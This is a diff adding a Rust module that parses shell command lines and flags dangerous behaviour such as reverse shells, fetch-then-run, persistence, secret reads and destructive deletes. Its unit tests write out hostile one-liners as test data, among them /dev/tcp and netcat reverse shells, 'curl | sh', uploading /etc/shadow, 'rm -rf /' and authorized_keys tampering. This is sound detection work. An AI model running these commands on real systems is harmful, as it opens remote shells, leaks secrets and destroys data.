@@ -1,0 +1,619 @@
+//! Reads a shell command line (from `os.system`, `subprocess`, ...) the way a cautious
+//! reviewer would: splits it into pipelines and simple commands, looks through `sudo`,
+//! `env` and `sh -c` wrappers, and reports what the commands would do.
+//!
+//! Called by `calls` with the folded command text; unknown parts are `UNKNOWN_PART`.
+
+use super::paths::{mentions_escape, mentions_mining, normalize};
+
+/// What a command line does, as far as the rules care.
+#[derive(Debug, Default, Clone, PartialEq, Eq)]
+pub struct CommandFacts {
+    pub privilege: bool,
+    /// Starts an interactive shell (`sh -i`, bare `bash`).
+    pub spawns_shell: bool,
+    /// A complete reverse shell on its own (`/dev/tcp/...`, `nc -e`).
+    pub reverse_shell: bool,
+    pub destructive: bool,
+    pub system_write: bool,
+    pub persistence: bool,
+    pub escape: bool,
+    pub kills_others: bool,
+    pub mining: bool,
+    pub setid_bits: bool,
+    pub secret_read: bool,
+    pub capabilities: bool,
+    pub network: bool,
+    /// `curl ... | sh`, `wget -O f ... && ./f` and the like.
+    pub fetch_then_run: bool,
+    /// `echo ... | base64 -d | sh` and the like.
+    pub decode_then_run: bool,
+    /// Files the line downloads into (`wget -O f`, `curl -o f`, `curl -O url`).
+    pub downloads: Vec<String>,
+    /// Python code given inline (`python3 -c CODE`), to be analysed as Python.
+    pub python_sources: Vec<String>,
+}
+
+/// How deep `sh -c "sh -c ..."` is followed.
+const MAX_SHELL_NESTING: u32 = 4;
+
+pub fn analyse(line: &str) -> CommandFacts {
+    let mut facts = CommandFacts::default();
+    analyse_into(line, 0, &mut facts);
+    facts
+}
+
+fn analyse_into(line: &str, depth: u32, facts: &mut CommandFacts) {
+    if depth > MAX_SHELL_NESTING {
+        return;
+    }
+    facts.reverse_shell |= line.contains("/dev/tcp/") || line.contains("/dev/udp/");
+    facts.mining |= mentions_mining(line);
+    for pipeline in split_pipelines(line) {
+        let mut fetched = false;
+        let mut decoded = false;
+        let mut shell_in_pipe = false;
+        let mut network_in_pipe = false;
+        for command in pipeline {
+            let simple = Simple::new(&command);
+            simple.check(depth, facts);
+            if fetched && simple.runs_code() || simple.runs_one_of(&facts.downloads) {
+                facts.fetch_then_run = true;
+            }
+            facts.decode_then_run |= decoded && simple.runs_code();
+            fetched |= simple.fetches();
+            decoded |= simple.decodes();
+            shell_in_pipe |= simple.spawns_shell();
+            network_in_pipe |= simple.is_network_relay();
+            facts.downloads.extend(simple.download_targets());
+        }
+        // `cat f | sh -i 2>&1 | nc host port > f`: a shell fed from and to the network.
+        facts.reverse_shell |= shell_in_pipe && network_in_pipe;
+    }
+}
+
+/// A word of a command line, or a redirection target (`> file`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Token {
+    Word(String),
+    WriteTo(String),
+    ReadFrom(String),
+}
+
+/// Splits on `;`, `&`, `&&`, `||`, newlines and `$(`/backticks into pipelines, and each
+/// pipeline on `|` into commands of tokens. Quotes group words and are removed.
+fn split_pipelines(line: &str) -> Vec<Vec<Vec<Token>>> {
+    let mut pipelines = vec![vec![Vec::new()]];
+    let mut word = String::new();
+    let mut quote: Option<char> = None;
+    let mut redirect: Option<bool> = None; // Some(true) for `>`, Some(false) for `<`
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        if let Some(q) = quote {
+            if c == q {
+                quote = None;
+            } else {
+                word.push(c);
+            }
+            continue;
+        }
+        match c {
+            '\'' | '"' => quote = Some(c),
+            '\\' => word.extend(chars.next()),
+            ' ' | '\t' => flush(&mut word, &mut redirect, &mut pipelines),
+            '>' | '<' => {
+                if chars.peek() == Some(&'&') {
+                    chars.next(); // `2>&1`: duplicates a descriptor, names no file
+                    word.clear();
+                    while chars
+                        .peek()
+                        .is_some_and(|d| d.is_ascii_digit() || *d == '-')
+                    {
+                        chars.next();
+                    }
+                    continue;
+                }
+                if !word.chars().all(|d| d.is_ascii_digit() || d == '&') {
+                    flush(&mut word, &mut redirect, &mut pipelines);
+                }
+                word.clear();
+                redirect = Some(c == '>');
+                if chars.peek() == Some(&'>') {
+                    chars.next();
+                }
+            }
+            '|' | ';' | '&' | '\n' | '`' | '(' | ')' | '$'
+                if c != '$' || chars.peek() == Some(&'(') =>
+            {
+                flush(&mut word, &mut redirect, &mut pipelines);
+                let pipe = c == '|' && chars.peek() != Some(&'|');
+                if c == '|' || c == '&' {
+                    chars.next_if_eq(&c);
+                }
+                if c == '$' {
+                    chars.next();
+                }
+                if pipe {
+                    if let Some(pipeline) = pipelines.last_mut() {
+                        pipeline.push(Vec::new());
+                    }
+                } else {
+                    pipelines.push(vec![Vec::new()]);
+                }
+            }
+            _ => word.push(c),
+        }
+    }
+    flush(&mut word, &mut redirect, &mut pipelines);
+    pipelines
+}
+
+fn flush(word: &mut String, redirect: &mut Option<bool>, pipelines: &mut [Vec<Vec<Token>>]) {
+    if word.is_empty() {
+        return;
+    }
+    let text = std::mem::take(word);
+    let token = match redirect.take() {
+        Some(true) => Token::WriteTo(text),
+        Some(false) => Token::ReadFrom(text),
+        None => Token::Word(text),
+    };
+    if let Some(command) = pipelines.last_mut().and_then(|p| p.last_mut()) {
+        command.push(token);
+    }
+}
+
+/// One simple command with wrappers (`sudo`, `env X=1`, `nohup`) peeled off.
+struct Simple<'t> {
+    name: String,
+    args: Vec<&'t str>,
+    writes: Vec<&'t str>,
+    reads: Vec<&'t str>,
+    privileged: bool,
+    /// The command string of `su -c "..."`.
+    inner: Option<&'t str>,
+}
+
+/// Skips `sudo -u x`, `env A=1`, `timeout 5`, `nohup` ...; returns where the real command
+/// starts, whether a privilege wrapper was seen, and `su -c`'s command string.
+fn peel_wrappers<'t>(words: &[&'t str]) -> (usize, bool, Option<&'t str>) {
+    let mut privileged = false;
+    let mut i = 0;
+    while let Some(word) = words.get(i) {
+        let name = basename(word);
+        let is_assignment = word.contains('=') && !word.starts_with('-');
+        let is_number = word.starts_with(|c: char| c.is_ascii_digit())
+            && word
+                .bytes()
+                .all(|b| b.is_ascii_digit() || b"smhd.".contains(&b));
+        if name == "su" || name == "runuser" {
+            let rest = &words[i + 1..];
+            let inner = rest.windows(2).find(|p| p[0] == "-c").map(|p| p[1]);
+            return (words.len(), true, inner);
+        }
+        if PRIVILEGE.contains(&name) {
+            privileged = true;
+        } else if privileged && matches!(*word, "-u" | "-g" | "-p" | "-C" | "-U") {
+            i += 1; // the option's value
+        } else if !(WRAPPERS.contains(&name) || is_assignment || is_number || word.starts_with('-'))
+        {
+            break;
+        }
+        i += 1;
+    }
+    (i, privileged, None)
+}
+
+const SHELLS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "ash", "csh", "tcsh", "fish", "busybox",
+];
+const WRAPPERS: &[&str] = &[
+    "nohup", "exec", "env", "timeout", "nice", "setsid", "stdbuf", "xargs", "command", "builtin",
+    "time", "ionice",
+];
+const PRIVILEGE: &[&str] = &["sudo", "su", "doas", "pkexec", "runuser"];
+
+impl<'t> Simple<'t> {
+    fn new(tokens: &'t [Token]) -> Simple<'t> {
+        let mut words = Vec::new();
+        let mut writes = Vec::new();
+        let mut reads = Vec::new();
+        for token in tokens {
+            match token {
+                Token::Word(w) => words.push(w.as_str()),
+                Token::WriteTo(w) => writes.push(w.as_str()),
+                Token::ReadFrom(w) => reads.push(w.as_str()),
+            }
+        }
+        let (start, privileged, inner) = peel_wrappers(&words);
+        let (name, args) = match words.get(start..).and_then(|r| r.split_first()) {
+            Some((first, args)) => (basename(first).to_string(), args.to_vec()),
+            None => (String::new(), Vec::new()),
+        };
+        Simple {
+            name,
+            args,
+            writes,
+            reads,
+            privileged,
+            inner,
+        }
+    }
+
+    fn has_flag(&self, flag: &str) -> bool {
+        self.args.contains(&flag)
+    }
+
+    /// `-O`, also inside grouped short options (`-sSO`).
+    fn has_short_flag(&self, flag: char) -> bool {
+        self.args
+            .iter()
+            .any(|a| a.starts_with('-') && !a.starts_with("--") && a[1..].contains(flag))
+    }
+
+    /// Non-option arguments.
+    fn operands(&self) -> impl Iterator<Item = &'t str> + '_ {
+        self.args.iter().copied().filter(|a| !a.starts_with('-'))
+    }
+
+    fn fetches(&self) -> bool {
+        matches!(self.name.as_str(), "curl" | "wget" | "fetch")
+    }
+
+    /// Decoders and decompressors that write their result to stdout.
+    fn decodes(&self) -> bool {
+        match self.name.as_str() {
+            "base64" | "base32" | "basenc" => self.has_short_flag('d') || self.has_flag("--decode"),
+            "xxd" => self.has_short_flag('r'),
+            "openssl" => self.has_flag("-d") || self.has_flag("-base64"),
+            "gunzip" | "zcat" | "bzcat" | "xzcat" | "uudecode" | "rev" => true,
+            "gzip" | "bzip2" | "xz" => self.has_short_flag('d'),
+            _ => false,
+        }
+    }
+
+    /// The value after `flag` (`-o file`), or glued to a long flag (`--output=file`).
+    fn option_value(&self, short: &str, long: &str) -> Option<&'t str> {
+        let mut args = self.args.iter();
+        while let Some(arg) = args.next() {
+            let glued_short = arg.len() > 1 && arg.starts_with('-') && !arg.starts_with("--");
+            if *arg == short || *arg == long || (glued_short && arg.ends_with(&short[1..])) {
+                return args.next().copied();
+            }
+            if let Some(value) = arg.strip_prefix(long).and_then(|r| r.strip_prefix('=')) {
+                return Some(value);
+            }
+        }
+        None
+    }
+
+    /// Where `wget`/`curl` save what they fetch.
+    fn download_targets(&self) -> Vec<String> {
+        let url_name = || {
+            self.operands()
+                .find(|a| a.contains("://"))
+                .and_then(|url| url.rsplit('/').next())
+                .filter(|name| !name.is_empty())
+                .map(str::to_string)
+        };
+        let target = match self.name.as_str() {
+            "wget" => self
+                .option_value("-O", "--output-document")
+                .map(str::to_string)
+                .or_else(url_name),
+            "curl" if self.has_short_flag('O') || self.has_flag("--remote-name") => url_name(),
+            "curl" => self.option_value("-o", "--output").map(str::to_string),
+            _ => None,
+        };
+        target.into_iter().filter(|t| t != "-").collect()
+    }
+
+    /// Runs, or makes executable, a file fetched earlier in the line.
+    fn runs_one_of(&self, downloads: &[String]) -> bool {
+        let named = |word: &str| downloads.iter().any(|d| basename(d) == basename(word));
+        if downloads.is_empty() {
+            return false;
+        }
+        let loads = self.runs_code() || self.name == "chmod" || self.name == "source";
+        named(&self.name) || loads && self.operands().any(named)
+    }
+
+    /// An interactive shell, or one reading its commands from stdin.
+    fn spawns_shell(&self) -> bool {
+        SHELLS.contains(&self.name.as_str())
+            && !self.has_flag("-c")
+            && (self.has_flag("-i") || self.operands().next().is_none())
+    }
+
+    /// Tools that move a byte stream to or from the network.
+    fn is_network_relay(&self) -> bool {
+        matches!(
+            self.name.as_str(),
+            "nc" | "ncat" | "netcat" | "telnet" | "socat" | "openssl"
+        )
+    }
+
+    fn runs_code(&self) -> bool {
+        SHELLS.contains(&self.name.as_str())
+            || self.name.starts_with("python")
+            || matches!(self.name.as_str(), "perl" | "ruby" | "node" | "php")
+    }
+
+    fn check(&self, depth: u32, facts: &mut CommandFacts) {
+        facts.privilege |= self.privileged;
+        if let Some(inner) = self.inner {
+            analyse_into(inner, depth + 1, facts);
+        }
+        self.check_files(facts);
+        self.check_by_name(depth, facts);
+        self.check_inline_code(facts);
+    }
+
+    /// `python3 -c CODE` is handed back as Python; `perl -e`, `ruby -e`, `php -r` and
+    /// `node -e` code that opens a socket and starts a shell is a reverse shell.
+    fn check_inline_code(&self, facts: &mut CommandFacts) {
+        let name = self.name.as_str();
+        if name.starts_with("python") {
+            if let Some(code) = self.option_value("-c", "--command") {
+                facts.python_sources.push(code.to_string());
+            }
+            return;
+        }
+        let flag = match name {
+            "perl" | "ruby" | "node" | "lua" => "-e",
+            "php" => "-r",
+            _ => return,
+        };
+        if let Some(code) = self.option_value(flag, flag) {
+            facts.reverse_shell |= foreign_code_is_reverse_shell(code);
+            facts.network |= code.to_ascii_lowercase().contains("socket");
+        }
+    }
+
+    /// Redirections and path-like words, whatever the command.
+    fn check_files(&self, facts: &mut CommandFacts) {
+        for target in &self.writes {
+            let path = normalize(target);
+            facts.persistence |= path.is_persistence();
+            facts.system_write |= path.is_protected();
+        }
+        for word in self.args.iter().chain(&self.reads) {
+            // `-F file=@/etc/shadow`, `--data-binary @~/.ssh/id_rsa`: the file after `@`/`=`.
+            let attached = word.rsplit(['@', '=']).next().unwrap_or(word);
+            facts.secret_read |= normalize(word).is_secret() || normalize(attached).is_secret();
+            facts.escape |= mentions_escape(word);
+        }
+    }
+
+    fn check_by_name(&self, depth: u32, facts: &mut CommandFacts) {
+        let name = self.name.as_str();
+        match name {
+            _ if SHELLS.contains(&name) => self.check_shell(depth, facts),
+            "rm" | "rmdir" | "unlink" | "shred" | "wipefs" => self.check_delete(facts),
+            "dd" => self.check_dd(facts),
+            _ if name.starts_with("mkfs") => facts.destructive = true,
+            "cp" | "mv" | "install" | "ln" | "touch" | "tee" | "truncate" | "chown" | "chgrp"
+            | "sed" | "mkdir" | "chattr" => self.check_writes(facts),
+            "chmod" => {
+                self.check_writes(facts);
+                facts.setid_bits |= self.args.iter().any(|a| is_setid_mode(a));
+            }
+            "crontab" => facts.persistence |= !self.has_flag("-l"),
+            "systemctl" => {
+                facts.persistence |= self.operands().any(|a| a == "enable" || a == "link")
+            }
+            "nsenter" | "mount" | "umount" | "insmod" | "modprobe" | "rmmod" | "unshare"
+            | "chroot" | "docker" | "ctr" | "runc" => facts.escape = true,
+            "setcap" | "capsh" => facts.capabilities = true,
+            "kill" | "pkill" | "killall" | "killall5" | "skill" => {
+                facts.kills_others |= self.operands().any(|a| a != "$$");
+            }
+            "nc" | "ncat" | "netcat" => {
+                facts.network = true;
+                facts.reverse_shell |= self.has_flag("-e") || self.has_flag("-c");
+            }
+            "socat" => {
+                facts.network = true;
+                facts.reverse_shell |= self.args.iter().any(|a| {
+                    let lower = a.to_ascii_lowercase();
+                    lower.contains("exec:") || lower.contains("system:")
+                });
+            }
+            "curl" | "wget" | "ssh" | "scp" | "ftp" | "telnet" | "fetch" => facts.network = true,
+            _ => {}
+        }
+        facts.mining |= mentions_mining(name);
+    }
+
+    fn check_shell(&self, depth: u32, facts: &mut CommandFacts) {
+        if self.check_command_argument(depth, facts) {
+            return;
+        }
+        let has_script = self.operands().next().is_some();
+        facts.spawns_shell |= self.has_flag("-i") || !has_script;
+    }
+
+    /// Follows `-c "command"`; returns whether there was one.
+    fn check_command_argument(&self, depth: u32, facts: &mut CommandFacts) -> bool {
+        let position = self.args.iter().position(|a| *a == "-c");
+        match position.and_then(|p| self.args.get(p + 1)) {
+            Some(inner) => {
+                analyse_into(inner, depth + 1, facts);
+                true
+            }
+            None => false,
+        }
+    }
+
+    fn check_delete(&self, facts: &mut CommandFacts) {
+        facts.destructive |= self.has_flag("--no-preserve-root");
+        for operand in self.operands() {
+            let path = normalize(operand);
+            facts.destructive |= path.is_destructive_target();
+            facts.system_write |= path.is_protected();
+        }
+    }
+
+    fn check_dd(&self, facts: &mut CommandFacts) {
+        for target in self.args.iter().filter_map(|a| a.strip_prefix("of=")) {
+            let path = normalize(target);
+            let device = target.starts_with("/dev/") && !path.is_escape() && target != "/dev/null";
+            facts.destructive |= device;
+            facts.system_write |= path.is_protected();
+            facts.persistence |= path.is_persistence();
+        }
+    }
+
+    fn check_writes(&self, facts: &mut CommandFacts) {
+        for operand in self.operands() {
+            let path = normalize(operand);
+            facts.persistence |= path.is_persistence();
+            facts.system_write |= path.is_protected();
+        }
+    }
+}
+
+/// Code in another language that opens a socket and starts a shell or runs commands.
+fn foreign_code_is_reverse_shell(code: &str) -> bool {
+    let lower = code.to_ascii_lowercase();
+    let shell = [
+        "/bin/sh",
+        "/bin/bash",
+        "sh -i",
+        "exec",
+        "spawn",
+        "popen",
+        "system(",
+    ];
+    lower.contains("socket") && shell.iter().any(|s| lower.contains(s))
+}
+
+fn basename(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+/// `u+s`, `g+s`, `+s`, or an octal mode with the setuid/setgid digit (`4755`, `2755`).
+fn is_setid_mode(mode: &str) -> bool {
+    let symbolic = mode.contains("+s") || mode.contains("=s");
+    let octal = mode.len() == 4
+        && mode.bytes().all(|b| (b'0'..=b'7').contains(&b))
+        && matches!(mode.as_bytes()[0], b'2' | b'4' | b'6' | b'3' | b'5' | b'7');
+    symbolic || octal
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn rm_rf_root_is_destructive() {
+        // `rm -rf /` and `rm -rf /*` destroy the system, also behind sudo.
+        assert!(analyse("rm -rf /").destructive);
+        assert!(analyse("sudo rm -rf --no-preserve-root /").destructive);
+        assert!(analyse("cd /tmp && rm -rf /*").destructive);
+        assert!(!analyse("rm -rf build/").destructive);
+    }
+
+    #[test]
+    fn sudo_and_su_are_privileged() {
+        // Any privilege wrapper counts, with or without a command after it.
+        assert!(analyse("sudo apt-get install x").privilege);
+        assert!(analyse("su -c 'id' root").privilege);
+        assert!(!analyse("ls -la").privilege);
+    }
+
+    #[test]
+    fn dev_tcp_and_nc_e_are_reverse_shells() {
+        // Classic one-line reverse shells are recognised on their own.
+        assert!(analyse("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").reverse_shell);
+        assert!(analyse("nc -e /bin/sh 10.0.0.1 4444").reverse_shell);
+        assert!(analyse("socat tcp:1.2.3.4:9 exec:/bin/sh").reverse_shell);
+    }
+
+    #[test]
+    fn curl_piped_to_shell_is_fetch_then_run() {
+        // Piping a download into an interpreter runs unreviewed code.
+        assert!(analyse("curl -s http://x/i.sh | sh").fetch_then_run);
+        assert!(analyse("sh -c 'wget -qO- http://x | python3'").fetch_then_run);
+        assert!(!analyse("curl -s http://x/data.json | jq .").fetch_then_run);
+    }
+
+    #[test]
+    fn persistence_via_redirects_and_crontab() {
+        // Appending to rc files or authorized_keys, or installing a crontab, persists.
+        assert!(analyse("echo 'curl x|sh' >> ~/.bashrc").persistence);
+        assert!(analyse("echo key >> /root/.ssh/authorized_keys").persistence);
+        assert!(analyse("(crontab -l; echo '* * * * * x') | crontab -").persistence);
+        assert!(!analyse("crontab -l").persistence);
+    }
+
+    #[test]
+    fn escape_kill_mining_setid_secret_commands() {
+        // Each indicator family is recognised in its usual command form.
+        assert!(analyse("nsenter -t 1 -m -u -n -i sh").escape);
+        assert!(analyse("mount -t cgroup -o rdma cgroup /tmp/x").escape);
+        assert!(analyse("killall python3").kills_others);
+        assert!(!analyse("kill -9 $$").kills_others);
+        assert!(analyse("./xmrig -o pool:3333").mining);
+        assert!(analyse("chmod u+s /tmp/sh").setid_bits);
+        assert!(analyse("chmod 4755 /tmp/sh").setid_bits);
+        assert!(!analyse("chmod 755 run.sh").setid_bits);
+        assert!(analyse("cat /etc/shadow").secret_read);
+        assert!(analyse("cp x /usr/bin/ls").system_write);
+    }
+
+    #[test]
+    fn pipelines_between_a_shell_and_the_network_are_reverse_shells() {
+        // The mkfifo + nc idiom feeds a shell from the network and back.
+        let line = "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.5 4242 >/tmp/f";
+        assert!(analyse(line).reverse_shell);
+        assert!(!analyse("cat data.txt | nc host 9000").reverse_shell);
+    }
+
+    #[test]
+    fn fetched_files_that_are_run_are_fetch_then_run() {
+        // wget -O f ... && chmod +x f && ./f runs what it fetched; a data download does not.
+        let line = "wget -q http://x/bot -O /tmp/.bot && chmod +x /tmp/.bot && /tmp/.bot";
+        assert!(analyse(line).fetch_then_run);
+        assert!(analyse("curl -sO http://x/run.sh; bash run.sh").fetch_then_run);
+        assert!(!analyse("curl -o data.csv http://x/data.csv && wc -l data.csv").fetch_then_run);
+        assert_eq!(
+            analyse("curl -o out.bin http://x/y").downloads,
+            vec!["out.bin"]
+        );
+    }
+
+    #[test]
+    fn decoded_text_piped_to_an_interpreter() {
+        // `echo B64 | base64 -d | sh` runs decoded code; decoding to a file does not.
+        assert!(analyse("echo Y3VybA== | base64 -d | sh").decode_then_run);
+        assert!(analyse("cat x.hex | xxd -r -p | python3").decode_then_run);
+        assert!(!analyse("base64 -d in.b64 > out.bin").decode_then_run);
+    }
+
+    #[test]
+    fn inline_code_of_other_interpreters() {
+        // python -c is handed back for analysis; perl/ruby socket+shell code is flagged.
+        let facts = analyse("python3 -c 'import os; os.system(\"id\")'");
+        assert_eq!(facts.python_sources, vec!["import os; os.system(\"id\")"]);
+        assert!(
+            analyse("perl -e 'use Socket;socket(S,PF_INET);exec(\"/bin/sh -i\")'").reverse_shell
+        );
+        assert!(!analyse("perl -e 'print 1+1'").reverse_shell);
+    }
+
+    #[test]
+    fn uploads_of_secret_files_read_them() {
+        // curl -F file=@/etc/shadow reads the file it uploads.
+        assert!(analyse("curl -F file=@/etc/shadow https://x/").secret_read);
+        assert!(!analyse("curl -F file=@report.pdf https://x/").secret_read);
+    }
+
+    #[test]
+    fn interactive_shell_spawn_is_seen() {
+        // `/bin/sh -i` or a bare shell is a shell for whoever holds stdin.
+        assert!(analyse("/bin/sh -i").spawns_shell);
+        assert!(analyse("bash").spawns_shell);
+        assert!(!analyse("bash build.sh").spawns_shell);
+    }
+}
